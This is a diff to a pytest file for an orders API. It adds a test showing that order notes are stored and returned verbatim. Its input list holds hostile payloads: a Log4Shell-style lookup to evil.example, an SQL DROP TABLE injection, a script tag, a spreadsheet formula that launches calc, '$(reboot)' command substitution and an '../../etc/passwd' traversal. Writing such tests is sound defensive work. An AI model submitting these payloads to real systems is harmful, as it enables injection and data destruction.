@@ -5,7 +5,7 @@ from __future__ import annotations
 import json
 from typing import Any
 from urllib.parse import quote
-from uuid import uuid4
+from uuid import UUID, uuid4
 
 import pytest
 
@@ -16,11 +16,12 @@ ORDER: dict[str, Any] = {"lines": [{"sku": "SKU-0001", "quantity": 1}], "currenc
 
 
 @pytest.fixture(autouse=True)
-async def nothing_written(facts: Facts) -> Any:
-    """I3, for every test of this file: a refused request leaves no row anywhere."""
+async def nothing_written(request: pytest.FixtureRequest, facts: Facts) -> Any:
+    """I3, for every test of this file that refuses: a refused request leaves no row anywhere."""
     before = await facts.counts()
     yield
-    assert await facts.counts() == before
+    if "accepted" not in request.fixturenames:
+        assert await facts.counts() == before
 
 
 def line(**changes: Any) -> dict[str, Any]:
@@ -101,6 +102,29 @@ async def test_orders_that_make_no_sense(login: Any, name: str) -> None:
     assert_points_at(answer, pointer, name)
 
 
+# What another program would run, expand or hide; here it is text, stored and given back as it came.
+INERT = [
+    "{{7*7}}", "${jndi:ldap://evil.example/a}", "__proto__", "<script>alert(1)</script>", "'; DROP TABLE orders; --", "%s%n%x", "=cmd|' /C calc'!A0",
+    "$(reboot)", "../../etc/passwd", "zero\u200bwidth", "\u0130stanbul", "line\nfeed\tand tab", "\U0001f469\u200d\U0001f680", "a" * 500,
+]  # fmt: skip
+
+
+@pytest.fixture
+def accepted() -> None:
+    """Marks a test that is meant to write."""
+
+
+@pytest.mark.usefixtures("accepted")
+@pytest.mark.parametrize("text", INERT)
+async def test_text_that_others_would_run_is_text_here(login: Any, facts: Facts, text: str) -> None:
+    anna = login(f"inert-{uuid4()}")
+    placed = await anna.post("/orders", ORDER | {"note": text})
+    assert (placed.status_code, placed.json()["note"]) == (201, text)
+    assert await facts.value("SELECT note FROM orders WHERE id = $1", UUID(placed.json()["id"])) == text
+    assert (await anna.get(f"/orders/{placed.json()['id']}")).json()["note"] == text
+    assert await facts.value("SELECT count(*) FROM orders") > 0
+
+
 CATALOGUE: dict[str, tuple[str, Any, str]] = {
     "patch nothing": ("patch", {}, ""),
     "patch null": ("patch", {"name": None}, ""),
@@ -152,9 +176,9 @@ BAD_IDS = [
     "%zz",
     "..%2f..",
     "null",
-    "{" + str(uuid4()) + "}",
-    "urn:uuid:" + str(uuid4()),
-    uuid4().hex,
+    "{01890a5d-ac96-774b-bcce-b302099a8057}",
+    "urn:uuid:01890a5d-ac96-774b-bcce-b302099a8057",
+    "01890a5dac96774bbcceb302099a8057",
     "' OR 1=1--",
     "\u0661",
 ]
